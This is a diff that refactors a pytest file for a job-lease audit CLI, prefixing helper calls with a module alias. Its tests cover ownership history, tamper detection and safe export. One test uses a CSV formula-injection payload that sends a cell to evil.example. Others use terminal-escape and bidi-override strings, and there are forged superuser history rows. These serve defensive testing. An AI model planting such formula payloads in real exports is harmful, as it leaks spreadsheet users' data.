@@ -31,46 +31,24 @@ from console.db.connect import lines_as, run
 from console.operator.files import atomic_write
 from console.shared.errors import BadInput, RowLocked
 from console.shared.times import parse_time
+from tests import helpers as h
 from tests.conftest import ROOT
-from tests.helpers import (
-    FAST,
-    SLOW,
-    approve,
-    cancel,
-    claim,
-    cli_invoker,
-    complete,
-    confirm_cancel,
-    enqueue,
-    events,
-    expire_lease,
-    heartbeat,
-    js,
-    mark_terminal,
-    record_event,
-    register_tool,
-    register_tree,
-    report_unknown,
-    request_shutdown,
-    start_side_effect,
-    sweep,
-)
 
 AUDITOR = "lc_audit_auditor"
 LOGINS = {AUDITOR: "leasectl_auditor"}
 OWNER_KEYS = ["job_id", "at", "owner_id", "fencing_token", "held_from", "held_until", "ended_by"]
 ACTION_KEYS = ["at", "operator", "action", "outcome", "job_id", "agent_id", "reason", "request_id", "fencing_token",
                "details"]
-TOOLS = {"quick": ("read_only", FAST), "search": ("read_only", SLOW), "pay": ("mutating_unverifiable", FAST)}
+TOOLS = {"quick": ("read_only", h.FAST), "search": ("read_only", h.SLOW), "pay": ("mutating_unverifiable", h.FAST)}
 
 
 @pytest.fixture
 def cli(db, conn):
-    return cli_invoker(db.dsn, "auditor-tester"), conn
+    return h.cli_invoker(db.dsn, "auditor-tester"), conn
 
 
 def kind_of(conn, job_id, kind, n=0) -> dict:
-    return [e for e in events(conn, job_id) if e["kind"] == kind][n]
+    return [e for e in h.events(conn, job_id) if e["kind"] == kind][n]
 
 
 def iso(value: datetime) -> str:
@@ -89,18 +67,18 @@ def test_owner_boundaries_exactly_at_the_claim_and_exactly_at_the_expiry(cli):
     (a worker may write only while lease_until > now()); a lease that ran out with nobody reclaiming
     it is not held after it ran out -- the sweep came later, and held_until is the expiry, not it."""
     invoke, conn = cli
-    e = enqueue(conn, "quick")
-    claim(conn, "w-1", ["quick"])
-    expire_lease(conn, e["id"])
+    e = h.enqueue(conn, "quick")
+    h.claim(conn, "w-1", ["quick"])
+    h.expire_lease(conn, e["id"])
     tick(0.2)
-    assert sweep(conn), "the sweep requeues the expired call"
+    assert h.sweep(conn), "the sweep requeues the expired call"
     claimed = kind_of(conn, e["id"], "claimed")
     swept = kind_of(conn, e["id"], "state_changed")
     expiry = datetime.fromisoformat(swept["details"]["previous_lease_until"])
     assert claimed["at"] < expiry < swept["at"]
 
     def owner(at: datetime) -> dict:
-        answer = js(invoke("audit", "owner", str(e["id"])[:8], "--at", iso(at), "--json"))
+        answer = h.js(invoke("audit", "owner", str(e["id"])[:8], "--at", iso(at), "--json"))
         assert list(answer) == OWNER_KEYS, "exactly the contract's keys, in order"
         return answer
 
@@ -122,17 +100,17 @@ def test_owner_through_reclaim_forced_fence_cancel_and_completion(cli):
     invoke, conn = cli
 
     def owner(job_id, at) -> dict:
-        return js(invoke("audit", "owner", str(job_id), "--at", iso(at), "--json"))
+        return h.js(invoke("audit", "owner", str(job_id), "--at", iso(at), "--json"))
 
     # a reclaim after the lease ran out, then an operator's forced mark-terminal (a token bump)
-    e = enqueue(conn, "quick")
-    claim(conn, "w-1", ["quick"])
-    expire_lease(conn, e["id"])
+    e = h.enqueue(conn, "quick")
+    h.claim(conn, "w-1", ["quick"])
+    h.expire_lease(conn, e["id"])
     tick(0.05)
-    second = claim(conn, "w-2", ["quick"])
+    second = h.claim(conn, "w-2", ["quick"])
     assert second["fencing_token"] == 2
     tick()
-    assert mark_terminal(conn, e["id"], "running", 2, "failed", force=True, operator="alice") is not None
+    assert h.mark_terminal(conn, e["id"], "running", 2, "failed", force=True, operator="alice") is not None
     reclaimed = kind_of(conn, e["id"], "reclaimed")
     forced = kind_of(conn, e["id"], "state_changed")
     first = owner(e["id"], kind_of(conn, e["id"], "claimed")["at"])
@@ -146,65 +124,65 @@ def test_owner_through_reclaim_forced_fence_cancel_and_completion(cli):
     assert after["owner_id"] is None and after["fencing_token"] == 3, "fenced out: the token went up"
 
     # a cancel request is not an ownership change; the confirmed cancel ends it
-    c = enqueue(conn, "search")
-    job = claim(conn, "w-3", ["search"])
+    c = h.enqueue(conn, "search")
+    job = h.claim(conn, "w-3", ["search"])
     tick()
-    cancel(conn, c["id"], "running", 1, operator="bob")
+    h.cancel(conn, c["id"], "running", 1, operator="bob")
     tick()
     requested = kind_of(conn, c["id"], "state_changed")
     still = owner(c["id"], requested["at"] + timedelta(milliseconds=1))
     assert still["owner_id"] == "w-3" and still["held_until"] is None, "cancel requested is not stopped"
-    assert confirm_cancel(conn, job, "w-3") is not None
+    assert h.confirm_cancel(conn, job, "w-3") is not None
     confirmed = kind_of(conn, c["id"], "state_changed", 1)
     assert owner(c["id"], requested["at"])["ended_by"] == "cancelled"
     assert owner(c["id"], confirmed["at"])["owner_id"] is None
 
     # renewals are not journaled and not ownership changes: held past the first lease until it completed
-    r = enqueue(conn, "quick")
-    job = claim(conn, "w-4", ["quick"])
+    r = h.enqueue(conn, "quick")
+    job = h.claim(conn, "w-4", ["quick"])
     granted = kind_of(conn, r["id"], "claimed")["lease_until"]
     while conn.execute("select now() as n").fetchone()["n"] < granted + timedelta(milliseconds=300):
-        assert heartbeat(conn, job, "w-4") is not None
+        assert h.heartbeat(conn, job, "w-4") is not None
         tick(0.1)
-    assert complete(conn, job, "w-4") is not None
+    assert h.complete(conn, job, "w-4") is not None
     done = kind_of(conn, r["id"], "state_changed")
     past_grant = owner(r["id"], granted + timedelta(milliseconds=100))
     assert past_grant["owner_id"] == "w-4" and past_grant["ended_by"] == "succeeded"
     assert datetime.fromisoformat(past_grant["held_until"]) == done["at"]
 
     # the sweep of an unverifiable call whose request went out: outcome_unknown, after the expiry
-    p = enqueue(conn, "pay")
-    job = claim(conn, "w-5", ["pay"])
-    start_side_effect(conn, job, "w-5")
-    expire_lease(conn, p["id"])
+    p = h.enqueue(conn, "pay")
+    job = h.claim(conn, "w-5", ["pay"])
+    h.start_side_effect(conn, job, "w-5")
+    h.expire_lease(conn, p["id"])
     tick(0.05)
-    assert [s["state_to"] for s in sweep(conn)] == ["outcome_unknown"]
+    assert [s["state_to"] for s in h.sweep(conn)] == ["outcome_unknown"]
     assert owner(p["id"], kind_of(conn, p["id"], "claimed")["at"])["ended_by"] == "expired"
 
 
 def test_an_open_stretch_is_held_and_the_answer_ignores_the_current_row(cli):
     invoke, conn = cli
-    e = enqueue(conn, "search")
-    claim(conn, "w-1", ["search"])
+    e = h.enqueue(conn, "search")
+    h.claim(conn, "w-1", ["search"])
     tick()
     # the current row lies (superuser, triggers bypassed): the history still says w-1
     with conn.transaction():
         run(conn, "demo/exact_mode", on=True)
         conn.execute("update tool_jobs set owner_id = 'liar', fencing_token = 9 where id = %s", (e["id"],))
         run(conn, "demo/exact_mode", on=False)
-    answer = js(invoke("audit", "owner", str(e["id"]), "--at", "0.001s", "--json"))
+    answer = h.js(invoke("audit", "owner", str(e["id"]), "--at", "0.001s", "--json"))
     assert answer["owner_id"] == "w-1" and answer["fencing_token"] == 1
     assert answer["held_until"] is None and answer["ended_by"] is None, "no later event: open"
 
 
 def test_owner_bad_input_is_exit_2_with_a_message(cli):
     invoke, conn = cli
-    e = enqueue(conn, "search")
+    e = h.enqueue(conn, "search")
     unknown = invoke("audit", "owner", "ffffffff", "--at", "1s")
     assert unknown.exit_code == 2 and "no call" in unknown.output
     bad = invoke("audit", "owner", str(e["id"]), "--at", "yesterday-ish")
     assert bad.exit_code == 2 and "ISO 8601" in bad.output
-    before = js(invoke("audit", "owner", str(e["id"]), "--at", "2001-01-01T00:00:00Z", "--json"))
+    before = h.js(invoke("audit", "owner", str(e["id"]), "--at", "2001-01-01T00:00:00Z", "--json"))
     assert before["owner_id"] is None and before["fencing_token"] is None, "the call did not exist yet"
     local = invoke("audit", "owner", str(e["id"]), "--at", "2001-01-01T00:00:00")
     assert local.exit_code == 0 and "local" in local.output, "a time without an offset says which zone it used"
@@ -217,14 +195,14 @@ def test_owner_bad_input_is_exit_2_with_a_message(cli):
 
 def test_actions_across_calls_and_shutdowns_with_combined_filters(cli, db):
     invoke, conn = cli
-    register_tree(conn, {"planner-1": None, "code-1": "planner-1", "ingest-1": None})
-    a = enqueue(conn, "search", agent_id="code-1")
-    b = enqueue(conn, "search", agent_id="ingest-1")
-    claim(conn, "w-1", ["search"])  # a (oldest first)
+    h.register_tree(conn, {"planner-1": None, "code-1": "planner-1", "ingest-1": None})
+    a = h.enqueue(conn, "search", agent_id="code-1")
+    b = h.enqueue(conn, "search", agent_id="ingest-1")
+    h.claim(conn, "w-1", ["search"])  # a (oldest first)
     tick()
-    cancel(conn, a["id"], "running", 1, operator="alice", reason="user left")
+    h.cancel(conn, a["id"], "running", 1, operator="alice", reason="user left")
     tick()
-    cancel(conn, b["id"], "queued", 7, operator="bob", reason="stale look")  # refused: token moved on
+    h.cancel(conn, b["id"], "queued", 7, operator="bob", reason="stale look")  # refused: token moved on
     tick()
     # a failed action: the row is locked by another transaction (lock_timeout)
     holder = db.connect(autocommit=False)
@@ -239,13 +217,13 @@ def test_actions_across_calls_and_shutdowns_with_combined_filters(cli, db):
         holder.close()
         conn.execute("set lock_timeout = '2s'")
     tick()
-    assert request_shutdown(conn, "ingest-1", "drain", operator="dana", reason="move it") is not None
+    assert h.request_shutdown(conn, "ingest-1", "drain", operator="dana", reason="move it") is not None
     tick()
-    assert request_shutdown(conn, "ingest-1", "abort", operator="dana", reason="again") is None, "refused"
+    assert h.request_shutdown(conn, "ingest-1", "abort", operator="dana", reason="again") is None, "refused"
     tick()
-    mark_terminal(conn, a["id"], "cancel_requested", 1, "failed", force=True, operator="alice", reason="hung")
+    h.mark_terminal(conn, a["id"], "cancel_requested", 1, "failed", force=True, operator="alice", reason="hung")
 
-    everything = js(invoke("audit", "actions", "--json"))
+    everything = h.js(invoke("audit", "actions", "--json"))
     assert all(list(r) == [*ACTION_KEYS, "db_role"] for r in everything), "the contract's keys, then the login"
     assert [(r["operator"], r["action"], r["outcome"]) for r in everything] == [
         ("alice", "mark_terminal", "applied"), ("dana", "abort", "refused"), ("dana", "drain", "applied"),
@@ -258,7 +236,7 @@ def test_actions_across_calls_and_shutdowns_with_combined_filters(cli, db):
     assert everything[0]["agent_id"] == "code-1" and everything[0]["fencing_token"] == 2
 
     def picked(*args: str) -> list[tuple[str, str, str]]:
-        return [(r["operator"], r["action"], r["outcome"]) for r in js(invoke("audit", "actions", *args, "--json"))]
+        return [(r["operator"], r["action"], r["outcome"]) for r in h.js(invoke("audit", "actions", *args, "--json"))]
 
     assert picked("--operator", "alice") == [("alice", "mark_terminal", "applied"), ("alice", "cancel", "applied")]
     assert picked("--operator", "alice", "--action", "cancel") == [("alice", "cancel", "applied")]
@@ -287,15 +265,15 @@ def _history(conn) -> list[dict]:
     """A few calls with every kind of row: claims, a reclaim, a side effect, an operator action."""
     made = []
     for _ in range(3):
-        e = enqueue(conn, "search")
-        job = claim(conn, "w-1", ["search"])
-        complete(conn, job, "w-1")
+        e = h.enqueue(conn, "search")
+        job = h.claim(conn, "w-1", ["search"])
+        h.complete(conn, job, "w-1")
         made.append(e)
-    p = enqueue(conn, "pay")
-    job = claim(conn, "w-2", ["pay"])
-    start_side_effect(conn, job, "w-2")
-    report_unknown(conn, job, "w-2")
-    approve(conn, p["id"], "outcome_unknown", 1, operator="ana")
+    p = h.enqueue(conn, "pay")
+    job = h.claim(conn, "w-2", ["pay"])
+    h.start_side_effect(conn, job, "w-2")
+    h.report_unknown(conn, job, "w-2")
+    h.approve(conn, p["id"], "outcome_unknown", 1, operator="ana")
     made.append(p)
     return made
 
@@ -340,7 +318,7 @@ def test_export_jsonl_escapes_del_as_print_json_does(cli):
     """DEL is ASCII, and PostgreSQL's JSON leaves it as it is; print_json (ensure_ascii) escapes it,
     and so does the export (it went out raw before)."""
     invoke, conn = cli
-    e = enqueue(conn, "search")
+    e = h.enqueue(conn, "search")
     conn.execute("insert into job_events (job_id, kind, actor, fencing_token) values (%s, 'note', %s, 0)",
                  (e["id"], "del\x7fhere"))
     out = invoke("audit", "export", "--job", str(e["id"]))
@@ -370,7 +348,7 @@ def test_export_bad_input_writes_nothing(cli, tmp_path):
 def _many_events(conn, n: int) -> None:
     """n events of one call, fast: the owner (the tests' superuser) inserts report rows the kind
     guard lets through without plpgsql (kind, at and db_role are the database's)."""
-    e = enqueue(conn, "search")
+    e = h.enqueue(conn, "search")
     conn.execute("insert into job_events (job_id, kind, actor, fencing_token, details) "
                  "select %s, 'note', 'seed', 0, jsonb_build_object('n', g, 'text', repeat('x', 300)) "
                  "from generate_series(1, %s) g", (e["id"], n))
@@ -555,14 +533,14 @@ def _tamper(conn, statement: str, params: tuple) -> None:
 def test_verify_a_clean_history_exits_0(cli):
     invoke, conn = cli
     _history(conn)
-    e = enqueue(conn, "quick")
-    claim(conn, "w-1", ["quick"])
-    expire_lease(conn, e["id"])
+    e = h.enqueue(conn, "quick")
+    h.claim(conn, "w-1", ["quick"])
+    h.expire_lease(conn, e["id"])
     tick(0.05)
-    job = claim(conn, "w-2", ["quick"])
-    mark_terminal(conn, e["id"], "running", job["fencing_token"], "failed", force=True)
+    job = h.claim(conn, "w-2", ["quick"])
+    h.mark_terminal(conn, e["id"], "running", job["fencing_token"], "failed", force=True)
     result = invoke("audit", "verify", "--json")
-    report = js(result)
+    report = h.js(result)
     assert report["ok"] is True and report["violations"] == [] and report["calls"] == 5
     assert report["events"] == conn.execute("select count(*) as n from job_events").fetchone()["n"]
     human = invoke("audit", "verify")
@@ -572,14 +550,14 @@ def test_verify_a_clean_history_exits_0(cli):
 def test_verify_finds_an_overlapping_claim_inserted_by_a_superuser(cli):
     invoke, conn = cli
     _history(conn)
-    e = enqueue(conn, "search")
-    claim(conn, "w-1", ["search"])  # a live lease of 60 s
+    e = h.enqueue(conn, "search")
+    h.claim(conn, "w-1", ["search"])  # a live lease of 60 s
     legit = kind_of(conn, e["id"], "claimed")
     _tamper(conn, "insert into job_events (job_id, at, kind, actor, fencing_token, state_from, state_to, "
                   "owner_from, owner_to, lease_until, details) "
                   "values (%s, now(), 'reclaimed', 'w-evil', 2, 'running', 'running', 'w-1', 'w-evil', "
                   "now() + interval '60 seconds', '{}')", (e["id"],))
-    forged = events(conn, e["id"])[-1]
+    forged = h.events(conn, e["id"])[-1]
     result = invoke("audit", "verify", "--json")
     assert result.exit_code == 4, result.output
     report = json.loads(result.stdout)
@@ -593,7 +571,7 @@ def test_verify_finds_an_overlapping_claim_inserted_by_a_superuser(cli):
     assert human.exit_code == 4 and "overlap" in human.output and str(e["id"]) in human.output
     # the forged owner also shows in the ownership answer, and its JSON says the history breaks the
     # rules (keys beyond the contract's, only then): a script must not take w-evil for the truth
-    answer = js(invoke("audit", "owner", str(e["id"]), "--at", "0.001s", "--json"))
+    answer = h.js(invoke("audit", "owner", str(e["id"]), "--at", "0.001s", "--json"))
     assert answer["owner_id"] == "w-evil" and [v["rule"] for v in answer["violations"]] == ["overlap"]
     assert answer["also_held"] == [], "the forged reclaim ended w-1's stretch: one owner, but a forged one"
     # ... and the human answer says so before it names an owner
@@ -604,8 +582,8 @@ def test_verify_finds_an_overlapping_claim_inserted_by_a_superuser(cli):
 def test_owner_on_a_tampered_history_warns_first_and_names_both_owners(cli):
     invoke, conn = cli
     _history(conn)
-    e = enqueue(conn, "search")
-    claim(conn, "w-1", ["search"])
+    e = h.enqueue(conn, "search")
+    h.claim(conn, "w-1", ["search"])
     # a second grant appended later but dated before w-1's (only a superuser can write it): both cover now
     _tamper(conn, "insert into job_events (job_id, at, kind, actor, fencing_token, state_from, state_to, "
                   "owner_from, owner_to, lease_until, details) "
@@ -616,21 +594,21 @@ def test_owner_on_a_tampered_history_warns_first_and_names_both_owners(cli):
     warning = told.output[:told.output.index("held by")]
     assert "BREAKS THE RULES" in warning and "overlap" in warning, told.output
     assert "w-1" in warning and "w-ghost" in warning, "both owners are named before the answer"
-    answer = js(invoke("audit", "owner", str(e["id"]), "--at", "0.001s", "--json"))
+    answer = h.js(invoke("audit", "owner", str(e["id"]), "--at", "0.001s", "--json"))
     why = " ".join(v["why"] for v in answer["violations"])
     assert "w-1" in why and "w-ghost" in why, "the JSON says the answer is not one owner, naming both"
 
 
 def test_verify_finds_a_fallen_token_a_second_finish_and_a_missing_event(cli):
     invoke, conn = cli
-    done = enqueue(conn, "search")
-    job = claim(conn, "w-1", ["search"])
-    complete(conn, job, "w-1")
+    done = h.enqueue(conn, "search")
+    job = h.claim(conn, "w-1", ["search"])
+    h.complete(conn, job, "w-1")
     _tamper(conn, "insert into job_events (job_id, kind, actor, fencing_token, state_from, state_to, owner_from, "
                   "owner_to) values (%s, 'state_changed', 'w-1', 0, 'running', 'failed', 'w-1', 'w-1')",
             (done["id"],))
-    gap = enqueue(conn, "search")
-    claim(conn, "w-2", ["search"])
+    gap = h.enqueue(conn, "search")
+    h.claim(conn, "w-2", ["search"])
     _tamper(conn, "insert into job_events (job_id, kind, actor, fencing_token, state_from, state_to, owner_from, "
                   "owner_to) values (%s, 'state_changed', 'w-3', 1, 'cancel_requested', 'cancelled', 'w-3', "
                   "'w-3')", (gap["id"],))
@@ -649,8 +627,8 @@ def test_verify_finds_a_change_made_behind_the_triggers_back_and_a_call_with_no_
     history against the call's row, and finds rows with no history between the histories."""
     invoke, conn = cli
     _history(conn)
-    e = enqueue(conn, "search")
-    claim(conn, "w-1", ["search"])
+    e = h.enqueue(conn, "search")
+    h.claim(conn, "w-1", ["search"])
     conn.execute("alter table tool_jobs disable trigger user")
     try:
         conn.execute("update tool_jobs set owner_id = 'ghost', fencing_token = fencing_token + 1 where id = %s",
@@ -677,26 +655,26 @@ def test_verify_finds_a_change_made_behind_the_triggers_back_and_a_call_with_no_
 
 def test_jobs_at_is_rebuilt_from_the_history_not_the_current_row(cli):
     invoke, conn = cli
-    running = enqueue(conn, "search", agent_id="planner-1")
-    job = claim(conn, "w-1", ["search"])
-    finished = enqueue(conn, "search")
-    other = claim(conn, "w-2", ["search"])
-    complete(conn, other, "w-2")
-    expired = enqueue(conn, "quick")
-    claim(conn, "w-3", ["quick"])
-    expire_lease(conn, expired["id"])
+    running = h.enqueue(conn, "search", agent_id="planner-1")
+    job = h.claim(conn, "w-1", ["search"])
+    finished = h.enqueue(conn, "search")
+    other = h.claim(conn, "w-2", ["search"])
+    h.complete(conn, other, "w-2")
+    expired = h.enqueue(conn, "quick")
+    h.claim(conn, "w-3", ["quick"])
+    h.expire_lease(conn, expired["id"])
     moment = _instant_after(conn)
     tick(0.05)
-    complete(conn, job, "w-1")
-    sweep(conn)
-    later = enqueue(conn, "search")
+    h.complete(conn, job, "w-1")
+    h.sweep(conn)
+    later = h.enqueue(conn, "search")
     with conn.transaction():  # the current row lies; the past does not move
         run(conn, "demo/exact_mode", on=True)
         conn.execute("update tool_jobs set owner_id = 'liar' where id = %s", (finished["id"],))
         run(conn, "demo/exact_mode", on=False)
 
-    now_rows = js(invoke("jobs", "--json"))
-    past = js(invoke("jobs", "--at", iso(moment), "--json"))
+    now_rows = h.js(invoke("jobs", "--json"))
+    past = h.js(invoke("jobs", "--at", iso(moment), "--json"))
     assert set(past[0]) == {*now_rows[0], "as_of"}, "the keys of jobs --json, plus as_of"
     by_id = {r["id"]: r for r in past}
     assert str(later["id"]) not in by_id, "created after the instant: absent"
@@ -709,9 +687,9 @@ def test_jobs_at_is_rebuilt_from_the_history_not_the_current_row(cli):
     assert f["finished_at"] is not None
     x = by_id[str(expired["id"])]
     assert (x["state"], x["health"]) == ("running", "lease_expired") and x["lease_left_seconds"] < 0
-    only = js(invoke("jobs", "--at", iso(moment), "--state", "running", "--json"))
+    only = h.js(invoke("jobs", "--at", iso(moment), "--state", "running", "--json"))
     assert {row["id"] for row in only} == {str(running["id"]), str(expired["id"])}, "--state means then"
-    assert js(invoke("jobs", "--at", iso(moment), "--owner", "liar", "--json")) == []
+    assert h.js(invoke("jobs", "--at", iso(moment), "--owner", "liar", "--json")) == []
     human = invoke("jobs", "--at", iso(moment))
     assert human.exit_code == 0 and "as it was at" in human.output and "rebuilt from the history" in human.output
     assert invoke("jobs", "--at", "soonish").exit_code == 2
@@ -721,14 +699,14 @@ def test_jobs_at_is_rebuilt_from_the_history_not_the_current_row(cli):
 
 def test_jobs_at_agrees_with_owner_at(cli, db):
     invoke, conn = cli
-    e = enqueue(conn, "quick")
-    claim(conn, "w-1", ["quick"])
-    expire_lease(conn, e["id"])
+    e = h.enqueue(conn, "quick")
+    h.claim(conn, "w-1", ["quick"])
+    h.expire_lease(conn, e["id"])
     tick(0.05)
-    job = claim(conn, "w-2", ["quick"])
-    complete(conn, job, "w-2")
+    job = h.claim(conn, "w-2", ["quick"])
+    h.complete(conn, job, "w-2")
     with db.connect() as c:
-        history = events(c, e["id"])
+        history = h.events(c, e["id"])
         expiry = datetime.fromisoformat(kind_of(c, e["id"], "reclaimed")["details"]["previous_lease_until"])
         instants = [expiry - timedelta(milliseconds=1), expiry + timedelta(milliseconds=1)]
         for event in history:
@@ -747,18 +725,18 @@ def test_jobs_at_reads_the_same_past_from_the_whole_history_as_call_by_call(cli,
     instead of an index scan per call: both ways must rebuild the same past at every instant."""
     invoke, conn = cli
     _history(conn)
-    running = enqueue(conn, "search")
-    claim(conn, "w-3", ["search"])
-    reported = enqueue(conn, "search")
-    reporter = claim(conn, "w-6", ["search"])
+    running = h.enqueue(conn, "search")
+    h.claim(conn, "w-3", ["search"])
+    reported = h.enqueue(conn, "search")
+    reporter = h.claim(conn, "w-6", ["search"])
     # a worker's own report of its request: the journal keeps state_to null on it
-    record_event(conn, reporter, "tool_request_started", "w-6", details={"external_request_id": "req-77"})
-    lapsed = enqueue(conn, "quick")
-    claim(conn, "w-4", ["quick"])
-    expire_lease(conn, lapsed["id"])
+    h.record_event(conn, reporter, "tool_request_started", "w-6", details={"external_request_id": "req-77"})
+    lapsed = h.enqueue(conn, "quick")
+    h.claim(conn, "w-4", ["quick"])
+    h.expire_lease(conn, lapsed["id"])
     tick(0.05)
-    claim(conn, "w-5", ["quick"])
-    cancel(conn, running["id"], "running", 1, operator="ana")
+    h.claim(conn, "w-5", ["quick"])
+    h.cancel(conn, running["id"], "running", 1, operator="ana")
     with db.connect() as c:
         instants = sorted({e["at"] for e in c.execute("select at from job_events").fetchall()})
         instants += [instants[-1] + timedelta(milliseconds=1)]
@@ -792,25 +770,25 @@ def _awkward_calls(conn) -> datetime:
     """Calls whose JSON is easy to get wrong: hostile and non-ASCII text in every kind of string
     column, a whole-second time, fractional and tiny lease sizes, a deadline, a live lease, a cancel,
     an approved retry, a forced terminal with a multi-line reason. Returns an instant after them."""
-    register_tool(conn, "odd", "read_only", lease_seconds=90.5, heartbeat_seconds=0.125, missed_heartbeats=2,
+    h.register_tool(conn, "odd", "read_only", lease_seconds=90.5, heartbeat_seconds=0.125, missed_heartbeats=2,
                   jitter_seconds=0.00001, max_attempts=2, stage_timeout_seconds=1e-05)
     hostile = 'q"uo\\te\n\x1b[31mred\x7f \u202eevil\u202c é 🙂'
-    enqueue(conn, "odd", key=f"k-{hostile}", agent_id=f"agent {hostile}", session_id="s\t1", model="m-é",
+    h.enqueue(conn, "odd", key=f"k-{hostile}", agent_id=f"agent {hostile}", session_id="s\t1", model="m-é",
             provider="p\x01", deadline_at=datetime.now().astimezone() + timedelta(hours=3))
-    job = claim(conn, f"w-{hostile}", ["odd"])
-    start_side_effect(conn, job, f"w-{hostile}", request_id=f"req {hostile}")
-    e2 = enqueue(conn, "search", payload={"big": "x" * 5000})
-    running = claim(conn, "w-2", ["search"])
-    cancel(conn, e2["id"], "running", running["fencing_token"], operator=f"ana {hostile}", reason=f"why\n{hostile}")
-    e3 = enqueue(conn, "pay")
-    paid = claim(conn, "w-3", ["pay"])
-    start_side_effect(conn, paid, "w-3")
-    report_unknown(conn, paid, "w-3")
-    approve(conn, e3["id"], "outcome_unknown", paid["fencing_token"], operator="bo", reason="bank said no")
-    e4 = enqueue(conn, "quick")
-    claim(conn, "w-4", ["quick"])
-    mark_terminal(conn, e4["id"], "running", 1, "failed", force=True, operator="cy", reason="line 1\nline 2\t\\")
-    enqueue(conn, "quick", key="k-del\x7fx", agent_id="a\x7f")  # all ASCII, and print_json escapes DEL
+    job = h.claim(conn, f"w-{hostile}", ["odd"])
+    h.start_side_effect(conn, job, f"w-{hostile}", request_id=f"req {hostile}")
+    e2 = h.enqueue(conn, "search", payload={"big": "x" * 5000})
+    running = h.claim(conn, "w-2", ["search"])
+    h.cancel(conn, e2["id"], "running", running["fencing_token"], operator=f"ana {hostile}", reason=f"why\n{hostile}")
+    e3 = h.enqueue(conn, "pay")
+    paid = h.claim(conn, "w-3", ["pay"])
+    h.start_side_effect(conn, paid, "w-3")
+    h.report_unknown(conn, paid, "w-3")
+    h.approve(conn, e3["id"], "outcome_unknown", paid["fencing_token"], operator="bo", reason="bank said no")
+    e4 = h.enqueue(conn, "quick")
+    h.claim(conn, "w-4", ["quick"])
+    h.mark_terminal(conn, e4["id"], "running", 1, "failed", force=True, operator="cy", reason="line 1\nline 2\t\\")
+    h.enqueue(conn, "quick", key="k-del\x7fx", agent_id="a\x7f")  # all ASCII, and print_json escapes DEL
     with conn.transaction():  # a whole second: pydantic writes no fraction then
         run(conn, "demo/exact_mode", on=True)
         conn.execute("update tool_jobs set created_at = date_trunc('second', created_at) where id = %s", (e4["id"],))
@@ -857,12 +835,12 @@ def test_jobs_at_json_times_are_utc_whatever_the_session_zone_and_date_style(cli
     at = iso(_awkward_calls(conn))
     times = ("created_at", "claimed_at", "finished_at", "cancel_requested_at", "side_effect_started_at",
              "retry_approved_at", "deadline_at")
-    utc = js(invoke("jobs", "--at", at, "--json", "--limit", "100"))
+    utc = h.js(invoke("jobs", "--at", at, "--json", "--limit", "100"))
     for options in ("-c TimeZone=Asia/Kolkata", "-c DateStyle=SQL,DMY -c TimeZone=America/St_Johns",
                     "-c DateStyle=German"):
         other = make_conninfo(db.dsn, options=options)
-        past = js(invoke("jobs", "--at", at, "--json", "--limit", "100", dsn=other))
-        now_rows = {r["id"]: r for r in js(invoke("jobs", "--json", "--limit", "100", dsn=other))}
+        past = h.js(invoke("jobs", "--at", at, "--json", "--limit", "100", dsn=other))
+        now_rows = {r["id"]: r for r in h.js(invoke("jobs", "--json", "--limit", "100", dsn=other))}
         assert past == utc, options
         checked = 0
         for r in past:
@@ -891,7 +869,7 @@ def test_jobs_at_json_to_a_full_disk_is_a_message_not_a_traceback(cli, db):
 def test_jobs_at_json_streams_in_batches_and_only_it_goes_past_the_table_limit(cli, db):
     invoke, conn = cli
     for _ in range(7):
-        enqueue(conn, "search")
+        h.enqueue(conn, "search")
     at = _instant_after(conn)
     sink = _RecordingSink()
     writes = sink.writes
@@ -914,7 +892,7 @@ def test_jobs_at_json_streams_in_batches_and_only_it_goes_past_the_table_limit(c
 def test_a_closed_pipe_ends_jobs_at_json_with_a_message(cli, db):
     invoke, conn = cli
     for _ in range(40):
-        enqueue(conn, "search", key=f"k-{'x' * 900}-{uuid.uuid4().hex}")
+        h.enqueue(conn, "search", key=f"k-{'x' * 900}-{uuid.uuid4().hex}")
     proc = subprocess.run(f"{sys.executable} -m console jobs --at 0s --json --limit 100 --dsn '{db.dsn}' "
                           "| head -c 100 > /dev/null; exit ${PIPESTATUS[0]}", shell=True, executable="/bin/bash",
                           cwd=ROOT, capture_output=True, text=True, timeout=120, env={**os.environ, "COLUMNS": "200"})
@@ -1056,8 +1034,8 @@ def test_the_audit_filter_grammar():
 
 def test_screen_page_answers_who_held_it_on_top(cli):
     invoke, conn = cli
-    e = enqueue(conn, "search")
-    claim(conn, "w-9", ["search"])
+    e = h.enqueue(conn, "search")
+    h.claim(conn, "w-9", ["search"])
     claimed = kind_of(conn, e["id"], "claimed")
     f = parse_audit_filter(f"job:{str(e['id'])[:8]} at:{claimed['at'].isoformat()}")
     page = audit_db.screen_page(conn, f)
@@ -1071,8 +1049,8 @@ def test_screen_page_answers_who_held_it_on_top(cli):
 
 def test_export_to_a_terminal_is_ascii_and_csv_drops_escapes(cli):
     invoke, conn = cli
-    e = enqueue(conn, "search")
-    claim(conn, "w-\u202e\u009b31m", ["search"])
+    e = h.enqueue(conn, "search")
+    h.claim(conn, "w-\u202e\u009b31m", ["search"])
     out = io.StringIO()
     audit_db.export(conn, out, job_id=e["id"])
     assert out.getvalue().isascii() and "\\u202e" in out.getvalue(), "exact, escaped"
@@ -1085,9 +1063,9 @@ def test_export_to_a_terminal_is_ascii_and_csv_drops_escapes(cli):
 def test_csv_cells_that_start_like_a_formula_are_shown_as_text_and_jsonl_stays_exact(cli, tmp_path):
     invoke, conn = cli
     formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
-    e = enqueue(conn, "search")
-    claim(conn, formula, ["search"])  # a worker id is whatever the client claimed
-    cancel(conn, e["id"], "running", 1, operator="@SUM(1+1)", reason="-1+1")
+    e = h.enqueue(conn, "search")
+    h.claim(conn, formula, ["search"])  # a worker id is whatever the client claimed
+    h.cancel(conn, e["id"], "running", 1, operator="@SUM(1+1)", reason="-1+1")
     target = tmp_path / "history.csv"
     assert invoke("audit", "export", "--format", "csv", "--output", str(target)).exit_code == 0
     with target.open(newline="") as f:
@@ -1105,7 +1083,7 @@ def test_csv_cells_that_start_like_a_formula_are_shown_as_text_and_jsonl_stays_e
 
 def test_a_range_starting_in_the_future_is_bad_input(cli):
     invoke, conn = cli
-    enqueue(conn, "search")
+    h.enqueue(conn, "search")
     for args in (("audit", "export", "--since", "2999-01-01T00:00:00Z"),
                  ("audit", "actions", "--since", "2999-01-01T00:00:00Z"),
                  ("audit", "verify", "--since", "2999-01-01T00:00:00Z")):
@@ -1119,9 +1097,9 @@ def test_a_range_starting_in_the_future_is_bad_input(cli):
